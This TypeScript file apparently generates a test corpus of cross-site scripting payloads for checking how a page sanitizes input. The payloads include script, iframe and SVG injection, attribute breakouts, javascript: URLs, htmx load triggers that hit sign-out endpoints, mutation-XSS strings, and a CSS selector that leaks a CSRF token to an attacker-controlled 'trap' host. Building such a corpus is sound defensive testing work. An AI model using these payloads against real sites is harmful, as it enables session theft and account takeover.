/** What strangers write to have a page run, style or load something: `pwned()` is what they would run, `trap` a server
 *  of theirs. None holds a line break. */
export function xssCorpus (trap: string): string[] {
  return [
    ...elements(trap),
    ...handlers(),
    ...outOfAttributes(trap),
    ...outOfElements(),
    ...urls(trap),
    ...templates(),
    ...htmx(trap),
    ...styles(trap),
    ...mutations(),
    ...unicode(),
    ...data()
  ]
}

function elements (trap: string): string[] {
  return [
    '<script>pwned()</script>',
    '<ScRiPt>pwned()</sCrIpT>',
    '<script >pwned()</script >',
    '<script/x>pwned()</script>',
    `<script src=${trap}/x.js></script>`,
    `<script src="//${trap.slice(7)}/x.js" defer></script>`,
    `<script type=module>import "${trap}/m.js"</script>`,
    `<link rel=stylesheet href=${trap}/x.css>`,
    `<link rel=preload as=script href=${trap}/p.js>`,
    `<link rel=icon href=${trap}/i.ico>`,
    `<link rel=prefetch href=${trap}/f>`,
    `<meta http-equiv=refresh content="0;url=${trap}/r">`,
    '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">`,
    '<meta name=referrer content=unsafe-url>',
    '<meta name="htmx-config" content=\'{"allowEval":true,"selfRequestsOnly":false}\'>',
    `<base href=${trap}/>`,
    '<base target=_top href="javascript:pwned()//">',
    `<iframe src=${trap}/frame></iframe>`,
    '<iframe src="javascript:pwned()"></iframe>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.pwned()&gt;"></iframe>',
    `<object data=${trap}/o></object>`,
    '<object data="javascript:pwned()"></object>',
    `<embed src=${trap}/e>`,
    '<embed src="javascript:pwned()">',
    `<img src=${trap}/i.png>`,
    `<img srcset="${trap}/s.png 1x">`,
    `<picture><source srcset=${trap}/p.png><img></picture>`,
    `<video src=${trap}/v poster=${trap}/po.png></video>`,
    `<audio src=${trap}/a autoplay></audio>`,
    `<input type=image src=${trap}/b.png>`,
    `<form action=${trap}/f method=post><button>Sign in</button></form>`,
    `<form id=pwned></form><button form=pwned formaction=${trap}/f>x</button>`,
    '<form action="javascript:pwned()"><input type=submit></form>',
    '<isindex type=image src=1 onerror=pwned()>',
    '<dialog open>pwned</dialog>',
    '<marquee onstart=pwned()>x</marquee>',
    '<bgsound src="javascript:pwned()">',
    '<applet code=pwned></applet>',
    '<frameset onload=pwned()><frame src="javascript:pwned()"></frameset>',
    `<track kind=subtitles src=${trap}/t.vtt default>`,
    '<svg><script>pwned()</script></svg>',
    '<svg><script href="data:text/javascript,pwned()"/></svg>',
    `<svg><image href=${trap}/si.png></svg>`,
    `<svg><use href="${trap}/u.svg#x"></svg>`,
    '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:pwned()"/></svg>',
    '<svg><set attributeName=onload to=pwned()></svg>',
    '<svg><foreignObject><iframe src="javascript:pwned()"></iframe></foreignObject></svg>',
    '<math href="javascript:pwned()">x</math>',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:pwned()">x</maction></math>',
    '<portal src="javascript:pwned()"></portal>',
    '<template shadowrootmode=open><script>pwned()</script></template>',
    '<slot name=pwned></slot>'
  ]
}

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'a href=# tabindex=1',
  'select autofocus',
  'p style=animation-name:x',
  'x-pwned tabindex=0 id=pwned'
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover']

function handlers (): string[] {
  return TAGS.flatMap((tag, i) =>
    EVENTS.map((event, k) =>
      [
        '<',
        tag,
        [' ', '/', '  ', ' x="" '][(i + k) % 4],
        event,
        '=',
        ['pwned()', '"pwned()"', "'pwned()'", 'pwned`1`'][(i * 3 + k) % 4],
        '>'
      ].join('')
    )
  )
}

function outOfAttributes (trap: string): string[] {
  return [
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    '" onmouseover="pwned()',
    "' onmouseover='pwned()",
    '" autofocus onfocus="pwned()" x="',
    "' autofocus onfocus='pwned()' x='",
    '` onerror=pwned() `',
    ' onload=pwned() ',
    '"/onload="pwned()',
    '" style="position:fixed;inset:0;background:red',
    '" style="--pwned:1',
    `" src="${trap}/q.png`,
    `" href="${trap}/h`,
    '" href="javascript:pwned()',
    '" formaction="javascript:pwned()',
    '" srcdoc="<script>parent.pwned()</script>',
    '" id="main" class="pwned',
    '" data-copy="pwned',
    '" data-confirm="pwned',
    '" data-toggle="pwned',
    '" data-live="//evil.example',
    '">\u2028<img src=x onerror=pwned()>',
    '&quot;><img src=x onerror=pwned()>',
    '&#34;&#62;<img src=x onerror=pwned()>',
    '\\"><img src=x onerror=pwned()>',
    '"};pwned();{"'
  ]
}

function outOfElements (): string[] {
  return [
    '</title><script>pwned()</script>',
    '</textarea><script>pwned()</script>',
    '</style><script>pwned()</script>',
    '</script><script>pwned()</script>',
    '</noscript><img src=x onerror=pwned()>',
    '</option></select><img src=x onerror=pwned()>',
    '</pre></code><img src=x onerror=pwned()>',
    '--><script>pwned()</script>',
    '--!><img src=x onerror=pwned()>',
    ']]><img src=x onerror=pwned()>',
    '<!--><img src=x onerror=pwned()>',
    '<![CDATA[<script>pwned()</script>]]>',
    '<?xml version="1.0"?><script>pwned()</script>',
    '<!ENTITY x "pwned()">',
    '</iframe><img src=x onerror=pwned()>',
    '</body></html><script>pwned()</script>',
    '</td></tr></table><img src=x onerror=pwned()>',
    '</dl></main><img src=x onerror=pwned()>',
    '<plaintext>',
    '<xmp><img src=x onerror=pwned()></xmp>',
    '<noembed><img src=x onerror=pwned()>',
    '<listing><img src=x onerror=pwned()>'
  ]
}

function urls (trap: string): string[] {
  return [
    'javascript:pwned()',
    'JaVaScRiPt:pwned()',
    ' javascript:pwned()',
    '\u0001javascript:pwned()',
    'java\tscript:pwned()',
    'javascript&colon;pwned()',
    'javascript://%0apwned()',
    'data:text/html,<script>parent.pwned()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
    'vbscript:pwned()',
    'blob:pwned',
    'filesystem:pwned',
    `${trap}/direct`,
    `//${trap.slice(7)}/scheme`,
    `\\\\${trap.slice(7)}\\back`,
    'view-source:javascript:pwned()',
    '<a href="javascript:pwned()" autofocus>x</a>',
    `<a href=${trap}/ping ping=${trap}/ping>x</a>`,
    '<area href="javascript:pwned()">'
  ]
}

function templates (): string[] {
  return [
    '{{constructor.constructor("pwned()")()}}',
    '${pwned()}',
    '#{pwned()}',
    '<%= pwned() %>',
    '{{{"<img src=x onerror=pwned()>"}}}',
    '{{> pwned}}',
    '[[${pwned()}]]',
    '{%raw%}pwned{%endraw%}',
    '{{=<% %>=}}<%{pwned}%>',
    '@{pwned()}',
    "$&$`$'$1",
    '%3Cimg%20src%3Dx%20onerror%3Dpwned()%3E'
  ]
}

function htmx (trap: string): string[] {
  return [
    `<div hx-get=${trap}/hx hx-trigger=load></div>`,
    '<div hx-get=/dashboard/sign-out hx-trigger=load></div>',
    '<div hx-post=/dashboard/sessions/end hx-trigger=load></div>',
    '<div hx-on:load="pwned()" hx-on::load="pwned()"></div>',
    '<div hx-on="htmx:load: pwned()"></div>',
    '<div data-hx-on:click="pwned()"></div>',
    `<div data-hx-get="${trap}/dhx" data-hx-trigger="load"></div>`,
    '<div hx-vals="js:{a:pwned()}" hx-get=/dashboard hx-trigger=load></div>',
    '<div hx-headers=\'js:{"a":pwned()}\' hx-get=/dashboard hx-trigger=load></div>',
    '<div hx-trigger="load[pwned()]" hx-get=/dashboard></div>',
    '<div hx-ext="pwned" hx-disinherit="*"></div>',
    '<div hx-swap-oob="true" id="main">pwned</div>',
    '" hx-get="/dashboard/sign-out" hx-trigger="load',
    '" hx-on:load="pwned()',
    '" data-hx-on:focus="pwned()" autofocus="',
    '<div sse-connect="/pwned" sse-swap="x"></div>',
    '<div hx-boost=true><a href=javascript:pwned()>x</a></div>'
  ]
}

function styles (trap: string): string[] {
  return [
    '<style>*{--pwned:1;display:none}</style>',
    `<style>@import "${trap}/i.css"</style>`,
    `<style>body{background:url(${trap}/bg)}</style>`,
    `<style>input[name=csrf][value^=a]{background:url(${trap}/leak)}</style>`,
    `<p style="background:url(${trap}/st)">x</p>`,
    '<p style="position:fixed;inset:0;z-index:9">pwned</p>',
    '<style>@font-face{font-family:p;src:url(pwned)}</style>',
    '</style><style>:root{--pwned:1}</style>',
    '<p style="--pwned:1;width:expression(pwned())">x</p>',
    `<svg><style>@import'${trap}/svg.css'</style></svg>`,
    '<div class="dialog open box bad">pwned</div>',
    ';}*{--pwned:1}'
  ]
}

/** What a browser makes again when it reads what it has written. */
function mutations (): string[] {
  return [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=pwned()//"></svg>',
    '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
    '<a title="`><img src=x onerror=pwned()>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwned()>">',
    '<b <script>pwned()</script>0',
    '<<script>pwned()//<</script>',
    '<img """><script>pwned()</script>">',
    '<svg/onload=pwned()//'
  ]
}

function unicode (): string[] {
  return [
    '\uff1cscript\uff1epwned()\uff1c/script\uff1e',
    '\u202e<script>pwned()</script>',
    '<img src=x onerror=\u2028pwned()>',
    '<img src=x oneonerrorrror=pwned()>',
    '\u00a0<img\u00a0src=x onerror=pwned()>',
    '\ufeff<script>pwned()</script>',
    '<ſcript>pwned()</ſcript>',
    '<K onclick=pwned()>',
    '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
    '\u{1f600}<img src=x onerror=pwned()>',
    '&lt;script&gt;pwned()&lt;/script&gt;',
    '&#x3c;script&#x3e;pwned()&#x3c;/script&#x3e;',
    '&amp;lt;img src=x onerror=pwned()&amp;gt;',
    '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
    '\\x3cimg src=x onerror=pwned()\\x3e'
  ]
}

function data (): string[] {
  return [
    '{"a":"</script><script>pwned()</script>"}',
    "'};pwned();var a={'",
    '";pwned();//',
    "';pwned();//",
    '`;pwned();//',
    '1;pwned()',
    '__proto__[onload]=pwned()',
    'constructor',
    'pwned\\',
    '{"__proto__":{"html":"<img src=x onerror=pwned()>"}}',
    '<!--#exec cmd="pwned"-->',
    'X-Pwned: 1',
    '=pwned()',
    '../../pwned',
    '<%00script>pwned()</script>',
    'on\u0000error=pwned()'.replace('\u0000', '')
  ]
}
